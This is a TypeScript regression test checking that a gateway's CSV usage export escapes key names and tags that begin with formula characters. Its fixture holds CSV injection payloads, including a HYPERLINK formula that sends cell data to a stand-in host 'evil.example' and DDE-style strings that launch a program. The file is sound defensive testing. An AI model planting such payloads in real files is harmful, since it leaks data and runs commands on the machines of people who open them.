import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startHarness, storeKinds, type Harness } from '../support/gateway-harness.js';
import { parseCsv } from '../support/csv.js';
import { splitTags } from '../../src/console/export/export-format.js';
import { FORMULA_LEADING, unescapeFormulaCell } from '../../src/console/export/csv.js';

/**
 * Issue 16, row 5: a key name or tag starting with =, +, -, @ (or a tab or carriage return,
 * OWASP's list) left the CSV usage export verbatim, so a spreadsheet opening it ran it as a
 * formula. Every such cell now leaves prefixed with ' (shown as text); stripping that prefix
 * gives back the exact value, and the JSON export is unchanged.
 */
const NAMES = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '=1+1\nsecond line',
  'plain name',
];
const TAGS = ['=1+2', '+cmd', '-x', '@y', 'plain-tag', 'a=b'];

for (const store of storeKinds()) {
  describe(`CSV export escapes formula-leading cells (issue 16 row 5, ${store})`, () => {
    let h: Harness;
    let org: { id: string; token: string };
    const keyIds = new Map<string, string>();

    before(async () => {
      h = await startHarness({ store });
      org = await h.organization();
      for (const name of NAMES) {
        const key = await h.createKey(org, { name });
        keyIds.set(key.id, name);
        // A real request through the gateway records the usage row with these tags.
        const chat = await h.gateway('POST', '/v1/chat/completions', {
          token: key.key,
          body: { model: 'local/echo', messages: [{ role: 'user', content: 'hi' }], tags: TAGS },
        });
        assert.equal(chat.status, 200, chat.text);
      }
    });
    after(async () => h.stop());

    const exportOf = (format: 'csv' | 'json') =>
      h.console('GET', `/v1/organizations/${org.id}/logs/export?format=${format}`, { token: org.token });

    it('no CSV cell starts with a formula character; each escaped cell round-trips to the exact value', async () => {
      const result = await exportOf('csv');
      assert.equal(result.status, 200, result.text);
      const [, ...records] = parseCsv(result.text);
      assert.equal(records.length, NAMES.length);
      for (const record of records) {
        for (const cell of record)
          assert.ok(!FORMULA_LEADING.test(cell), `a cell a spreadsheet would evaluate: ${JSON.stringify(cell)}`);
        const id = /\(([^()]+)\)$/.exec(unescapeFormulaCell(record[1]!))?.[1];
        const name = keyIds.get(id!);
        assert.ok(name !== undefined, `the key of ${JSON.stringify(record[1])}`);
        assert.equal(unescapeFormulaCell(record[1]!), `${name} (${id})`);
        if (FORMULA_LEADING.test(name)) assert.ok(record[1]!.startsWith("'"), 'the name cell is escaped');
        // The tags cell starts with the first tag, '=1+2': escaped, and exact once unescaped.
        assert.ok(record[7]!.startsWith("'="), record[7]);
        assert.deepEqual(splitTags(unescapeFormulaCell(record[7]!)), TAGS);
      }
    });

    it('the JSON export carries the names and tags verbatim', async () => {
      const result = await exportOf('json');
      assert.equal(result.status, 200, result.text);
      const rows = result.json as Array<{ api_key_id: string; api_key_name: string; tags: string[] }>;
      assert.equal(rows.length, NAMES.length);
      for (const row of rows) {
        assert.equal(row.api_key_name, keyIds.get(row.api_key_id));
        assert.deepEqual(row.tags, TAGS);
      }
    });
  });
}
